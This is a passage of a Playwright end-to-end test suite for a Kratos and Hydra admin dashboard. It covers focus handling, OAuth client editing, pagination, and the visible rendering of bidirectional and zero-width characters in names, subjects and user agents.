  const second = (await admin.page.getByRole('button', { name: /^Revoke session of / }).nth(1).getAttribute('aria-label'))!
  await tabTo(admin.page, first)
  await admin.page.keyboard.press('Enter')
  await admin.page.getByRole('dialog', { name: 'Revoke session?' }).waitFor()
  await admin.page.keyboard.press('Escape')
  expect(await admin.page.evaluate(() => document.activeElement?.getAttribute('aria-label'))).toBe(first)
  // Confirmed this time: its row goes, and focus goes to the next row's Revoke rather than nowhere.
  await admin.page.keyboard.press('Enter')
  const dialog = admin.page.getByRole('dialog', { name: 'Revoke session?' })
  await dialog.waitFor()
  // It opens on Cancel (a revoked session cannot be given back); Revoke is one Shift+Tab away.
  expect(await admin.page.evaluate(() => document.activeElement?.textContent?.trim())).toBe('Cancel')
  await admin.page.keyboard.press('Shift+Tab')
  expect(await admin.page.evaluate(() => document.activeElement?.textContent?.trim())).toBe('Revoke')
  await admin.page.keyboard.press('Enter')
  await admin.page.getByRole('status').getByText(/^Session of .* revoked\.$/).waitFor()
  expect(await admin.page.getByRole('button', { name: first }).count()).toBe(0)
  // And stays there: the dialog's close event, which would hand focus back, comes a task after the row has gone.
  await admin.page.waitForFunction((name) => document.activeElement?.getAttribute('aria-label') === name, second, { timeout: 5000 })
  await admin.page.getByRole('dialog', { name: 'Revoke session?' }).waitFor({ state: 'hidden' })
  expect(await admin.page.evaluate(() => document.activeElement?.getAttribute('aria-label'))).toBe(second)
  // Extend keeps focus on its button, which is disabled only while the request runs.
  const extend = (await admin.page.getByRole('button', { name: /^Extend session of / }).first().getAttribute('aria-label'))!
  await tabTo(admin.page, extend, 80, 'Shift+Tab')
  await admin.page.keyboard.press('Enter')
  await admin.page.getByRole('status').getByText(/^Session of .* extended\.$/).waitFor()
  await admin.page.waitForFunction((name) => document.activeElement?.getAttribute('aria-label') === name, extend, { timeout: 5000 })
  await admin.page.goto(admin.url('/dashboard/oauth-clients'))
  await admin.page.getByRole('table', { name: 'OAuth clients' }).waitFor()
  await tabTo(admin.page, 'Create client')
  await admin.page.keyboard.press('Enter')
  await admin.page.getByRole('dialog', { name: 'Create client' }).waitFor()
  await admin.page.keyboard.press('Escape')
  expect(await admin.page.evaluate(() => document.activeElement?.textContent?.trim())).toBe('Create client')
})

test('OAuth clients: a grant or response type the form does not offer (set through Hydra) has its own ticked box, can be taken away, and the list names it', async () => {
  admin.problems.length = 0
  const { hydra } = admin.harness.sandbox
  const DEVICE = 'urn:ietf:params:oauth:grant-type:device_code'
  const client = hydra.addClient({
    client_name: 'TV app',
    redirect_uris: ['https://tv.example.com/callback'],
    grant_types: [DEVICE, 'refresh_token', 'authorization_code'],
    response_types: ['code', 'code id_token'],
    scope: 'openid offline_access',
  })
  await admin.page.goto(admin.url('/dashboard/oauth-clients?name=TV%20app'))
  const row = admin.page.getByRole('table', { name: 'OAuth clients' }).getByRole('row').filter({ hasText: 'TV app' })
  await row.getByRole('cell', { name: 'device code, refresh token, authorization code' }).waitFor()
  await admin.page.goto(admin.url(`/dashboard/oauth-clients/${encodeURIComponent(client.client_id)}`))
  await admin.page.getByRole('heading', { level: 1, name: 'TV app' }).waitFor()
  await admin.page.getByRole('button', { name: 'Edit client' }).click()
  const grants = admin.page.getByRole('group', { name: 'Grant types' })
  const responses = admin.page.getByRole('group', { name: 'Response types' })
  expect(await grants.getByRole('checkbox', { name: 'device code' }).isChecked()).toBe(true)
  expect(await responses.getByRole('checkbox', { name: 'code id_token' }).isChecked()).toBe(true)
  // Unticked, a box stays, so it can be ticked again; with every box unticked the form says so.
  for (const name of ['device code', 'refresh token', 'authorization code']) await grants.getByRole('checkbox', { name, exact: true }).uncheck()
  expect(await grants.getByRole('checkbox', { name: 'device code' }).count()).toBe(1)
  await admin.page.getByRole('button', { name: 'Save' }).click()
  await admin.page.getByText('Choose at least one grant type.').waitFor()
  expect(hydra.clients.get(client.client_id)!.grant_types).toEqual([DEVICE, 'refresh_token', 'authorization_code'])
  await grants.getByRole('checkbox', { name: 'authorization code' }).check()
  await responses.getByRole('checkbox', { name: 'code id_token' }).uncheck()
  await admin.page.getByRole('button', { name: 'Save' }).click()
  await admin.page.getByRole('status').getByText('Client TV app saved.').waitFor()
  expect(hydra.clients.get(client.client_id)!.grant_types).toEqual(['authorization_code'])
  expect(hydra.clients.get(client.client_id)!.response_types).toEqual(['code'])
  expect(admin.problems).toEqual([])
})

test('OAuth clients: a later page whose clients were deleted meanwhile says there are no more, not that there are none', async () => {
  admin.problems.length = 0
  const { hydra } = admin.harness.sandbox
  const table = admin.page.getByRole('table', { name: 'OAuth clients' })
  await admin.page.goto(admin.url('/dashboard/oauth-clients'))
  await table.waitFor()
  await admin.page.getByRole('button', { name: 'Next page' }).click()
  await admin.page.getByText('Page 2', { exact: true }).waitFor()
  await admin.page.waitForFunction(() => !document.querySelector('main [aria-busy="true"]'))
  const ids = await table.locator('tbody tr td:nth-child(2)').allTextContents()
  expect(ids.length).toBeGreaterThan(0)
  const removed = ids.map((id) => hydra.clients.get(id)!)
  for (const id of ids) hydra.clients.delete(id)
  try {
    await admin.page.reload()
    await admin.page.getByRole('main').getByText('No more clients.').waitFor()
    expect(await admin.page.getByText('There are no OAuth clients yet.').count()).toBe(0)
    await admin.page.getByRole('button', { name: 'Previous page' }).click()
    await table.waitFor()
    expect(admin.problems).toEqual([])
  } finally {
    for (const client of removed) hydra.clients.set(client.client_id, client)
  }
})

test('OAuth clients: a client name that turns text around shows the character that does it, on its page and in its Delete question; so do its redirect URIs and audience', async () => {
  admin.problems.length = 0
  const { hydra } = admin.harness.sandbox
  const client = hydra.addClient({ client_name: '\u202Elatrop remotsuC', redirect_uris: ['https://turned.example.com/\u202Ekcabllac'], audience: ['https://api.example.com/\u200Bbilling'] })
  await admin.page.goto(admin.url(`/dashboard/oauth-clients/${encodeURIComponent(client.client_id)}`))
  await admin.page.getByRole('heading', { level: 1, name: '⟨U+202E⟩latrop remotsuC' }).waitFor()
  const facts = admin.page.getByRole('region', { name: 'Client', exact: true })
  expect(await facts.textContent()).toContain('https://turned.example.com/⟨U+202E⟩kcabllac')
  expect(await facts.textContent()).toContain('https://api.example.com/⟨U+200B⟩billing')
  expect(HIDING.test((await facts.textContent()) ?? '')).toBe(false)
  await admin.page.getByRole('button', { name: 'Delete client' }).click()
  const dialog = admin.page.getByRole('dialog', { name: 'Delete client?' })
  await dialog.waitFor()
  expect(await dialog.evaluate((element) => /[\u202A-\u202E\u2066-\u2069]/.test(element.textContent ?? ''))).toBe(false)
  await dialog.getByRole('button', { name: 'Cancel' }).click()
  hydra.clients.delete(client.client_id)
  expect(admin.problems).toEqual([])
})

test('Messages: a recipient, subject or dispatch error with characters that hide or turn text around shows them, in the list, the heading, the tab title and the details', async () => {
  admin.problems.length = 0
  const { kratos } = admin.harness.sandbox
  const turned = kratos.addMessage(
    { recipient: 'adm\u200Bin@example.test', subject: '\u202Edrowssap ruoy teseR', body: 'code 123456', status: 'sent', created_at: new Date().toISOString() },
    [{ status: 'failed', error: { message: 'mailbox adm\u200Bin@example.test unavailable', reason: '550' } }],
  )
  try {
    await admin.page.goto(admin.url('/dashboard/messages'))
    const row = admin.page.getByRole('table', { name: 'Messages' }).getByRole('row').filter({ has: admin.page.locator(`a[href="/dashboard/messages/${turned.id}"]`) })
    expect(await row.locator('td:nth-child(1)').textContent()).toBe('adm⟨U+200B⟩in@example.test')
    expect(await row.locator('td:nth-child(2)').textContent()).toBe('⟨U+202E⟩drowssap ruoy teseR')
    await row.getByRole('link').click()
    await admin.page.getByRole('heading', { level: 1, name: '⟨U+202E⟩drowssap ruoy teseR' }).waitFor()
    expect(await admin.page.title()).toBe('⟨U+202E⟩drowssap ruoy teseR · admin-dashboard')
    await admin.page.getByRole('region', { name: 'Dispatch attempts' }).getByText('mailbox adm⟨U+200B⟩in@example.test unavailable (550)').waitFor()
    expect(await admin.page.getByRole('region', { name: 'Details' }).textContent()).toContain('adm⟨U+200B⟩in@example.test')
    expect(HIDING.test((await admin.page.getByRole('main').textContent()) ?? '')).toBe(false)

    // Without a subject from Kratos (not in dev mode) the heading names the recipient, as shown.
    kratos.devMode = false
    await admin.page.reload()
    await admin.page.getByRole('heading', { level: 1, name: 'Message to adm⟨U+200B⟩in@example.test' }).waitFor()
    expect(await admin.page.title()).toBe('Message to adm⟨U+200B⟩in@example.test · admin-dashboard')
  } finally {
    kratos.devMode = true
    kratos.messages.splice(kratos.messages.indexOf(turned), 1)
  }
  expect(admin.problems).toEqual([])
})

test('Sessions: a user agent with a right-to-left override shows the character in the Device cell instead of turning the text around, on the Sessions page and the identity page', async () => {
  admin.problems.length = 0
  const { kratos } = admin.harness.sandbox
  const person = kratos.addIdentity({ email: 'turned.agent@example.test' })
  const session = kratos.addSession(person.id, { ip_address: '2.16.7.0', user_agent: '\u202Etnega live' })
  try {
    await admin.page.goto(admin.url('/dashboard/sessions'))
    const row = admin.page.getByRole('table', { name: 'Active sessions' }).getByRole('row').filter({ hasText: 'turned.agent@example.test' })
    await row.getByRole('cell', { name: '⟨U+202E⟩tnega live' }).waitFor()
    expect(HIDING.test((await row.textContent()) ?? '')).toBe(false)
    await row.getByRole('link', { name: 'turned.agent@example.test' }).click()
    const sessions = admin.page.getByRole('region', { name: 'Sessions' })
    await sessions.getByRole('cell', { name: '⟨U+202E⟩tnega live' }).waitFor()
    expect(HIDING.test((await sessions.textContent()) ?? '')).toBe(false)
  } finally {
    kratos.sessions.splice(kratos.sessions.indexOf(session), 1)
    kratos.identities.delete(person.id)
  }
  expect(admin.problems).toEqual([])
})

test('Sessions: a page of many addresses asks for their places a few at a time, so a click made meanwhile is not held up behind them; each address is still placed', async () => {
  const { kratos } = admin.harness.sandbox
  const traveller = kratos.addIdentity({ email: 'many-places@example.test', name: 'Many Places' })
  const addresses = Array.from({ length: 40 }, (_, i) => `193.0.6.${i + 10}`)
  for (const ip_address of addresses) kratos.addSession(traveller.id, { ip_address, user_agent: 'Places browser' })
  let asking = 0
  let most = 0
  let asked = 0
  const isGeo = (url: string) => new URL(url).pathname === '/api/geo'
  const started = (request: { url(): string }) => {
    if (!isGeo(request.url())) return
    asked++
    most = Math.max(most, ++asking)
  }
  const ended = (request: { url(): string }) => {
    if (isGeo(request.url())) asking--
  }
  admin.page.on('request', started)
  admin.page.on('requestfinished', ended)
  admin.page.on('requestfailed', ended)
  try {
    await admin.page.goto(admin.url('/dashboard/sessions?page_size=100'))
    const table = admin.page.getByRole('table', { name: 'Active sessions' })
    await table.waitFor()
    const placed = () => table.locator('tbody tr').filter({ hasText: 'Places browser' }).filter({ hasText: 'Netherlands' }).count()
    await within(15_000, async () => (await placed()) >= addresses.length)
    expect(await placed()).toBe(addresses.length)
  } finally {
    admin.page.off('request', started)
    admin.page.off('requestfinished', ended)
    admin.page.off('requestfailed', ended)
  }
  expect(asked).toBeGreaterThanOrEqual(addresses.length)
  expect(most).toBeLessThanOrEqual(4)
  expect(admin.problems).toEqual([])
})

test('Sessions: a deep page whose trail no longer holds the page before says its number, and that Previous page leads to the first page', async () => {
  await admin.page.goto(admin.url('/dashboard/sessions'))
  const table = admin.page.getByRole('table', { name: 'Active sessions' })
  await table.waitFor()
  await admin.page.getByRole('button', { name: 'Next page' }).click()
  await admin.page.getByText('Page 2', { exact: true }).waitFor()
  const token = new URL(admin.page.url()).searchParams.get('page_token')!
  await admin.page.goto(admin.url(`/dashboard/sessions?page_token=${encodeURIComponent(token)}&trail=${encodeURIComponent('%+7')}`))
  await admin.page.getByText('Page 8', { exact: true }).waitFor()
  await table.waitFor()
  await admin.page.getByText('(Previous page leads to the first page: the pages between are too many to keep in the address)').waitFor()
  await admin.page.getByRole('button', { name: 'Previous page' }).click()
  await admin.page.waitForURL(admin.url('/dashboard/sessions'))
  await admin.page.getByText('Page 1', { exact: true }).waitFor()
  expect(admin.problems).toEqual([])
})

test('Sessions: a list that failed and then came with Retry says what it shows, as its failure was said', async () => {
  const { kratos } = admin.harness.sandbox
  const page = admin.page
  kratos.failWith = 500
  try {
    await page.goto(admin.url('/dashboard/sessions'))
    await page.getByRole('alert').getByText('Kratos could not carry out the request (HTTP 500).', { exact: false }).waitFor()
  } finally {
    kratos.failWith = null
  }
  await page.getByRole('button', { name: 'Retry' }).click()
  await page.getByRole('table', { name: 'Active sessions' }).waitFor()
  await page.getByRole('status').getByText(/^\d+ sessions? shown\.$/).waitFor()
  expect(admin.problems.splice(0).every((problem) => /status of 500\b/.test(problem))).toBe(true)
})
